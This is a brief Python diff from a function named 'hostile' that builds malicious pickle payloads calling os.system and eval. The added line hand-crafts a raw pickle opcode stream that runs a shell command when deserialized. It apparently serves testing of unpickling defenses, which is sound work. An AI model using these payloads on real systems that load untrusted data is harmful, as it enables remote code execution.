@@ -188,6 +188,7 @@ def hostile(target):
         return b"\x8c" + bytes([len(value)]) + value.encode() if len(value) < 256 else b"X" + struct.pack("<I", len(value)) + value.encode()
 
     shell = text(command)
+    reduced = b"cos\nsystem\n" + shell + b"\x85R."
     return {
         "system": pickle.dumps(Calls(os.system, command), 2),
         "eval": pickle.dumps(Calls(eval, code), 2),
